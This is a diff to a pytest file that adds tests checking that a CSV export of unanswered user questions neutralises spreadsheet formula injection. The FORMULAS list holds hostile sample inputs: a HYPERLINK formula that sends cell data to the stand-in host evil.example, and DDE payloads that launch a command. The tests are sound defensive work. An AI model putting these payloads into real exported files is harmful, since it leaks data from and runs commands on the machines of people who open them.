@@ -8,7 +8,7 @@ from datetime import timedelta
 
 import pytest
 
-from jmd.content.unanswered import COLUMNS, export
+from jmd.content.unanswered import COLUMNS, export, safe_cell
 from jmd.db.engine import make_engine, session_scope
 from jmd.db.feedback import (
     HELPFUL,
@@ -78,3 +78,27 @@ def test_export_csv_has_no_ids(database_url: str) -> None:
     assert (text, language, topic, kind) == ("وين الجامعة؟", "ar", "study", UNANSWERED)
     assert date == utcnow().date().isoformat()
     assert "u-secret-key" not in out.getvalue()
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Hilfe")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_export_neutralises_formulas(database_url: str) -> None:
+    engine = make_engine(database_url)
+    with session_scope(engine) as session:
+        for text in FORMULAS:
+            record(session, UNANSWERED, language="de", topic="study", text=text)
+        record(session, UNANSWERED, language="de", text="wie viel kostet 1+1=2?")
+    out = io.StringIO()
+    assert export(out, engine=engine) == len(FORMULAS) + 1
+    texts = [row[0] for row in csv.reader(io.StringIO(out.getvalue(), newline=""))][1:]
+    assert texts[:-1] == [f"'{mask(text)}" for text in FORMULAS]
+    assert texts[-1] == "wie viel kostet 1+1=2?", "a formula sign inside the text is fine"
+    assert not any(text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in texts)
+
+
+def test_safe_cell() -> None:
+    assert safe_cell("=1+1") == "'=1+1" and safe_cell("-") == "'-"
+    assert safe_cell("Ausbildung?") == "Ausbildung?" and safe_cell("") == ""
+    assert safe_cell("2026-11-28") == "2026-11-28"
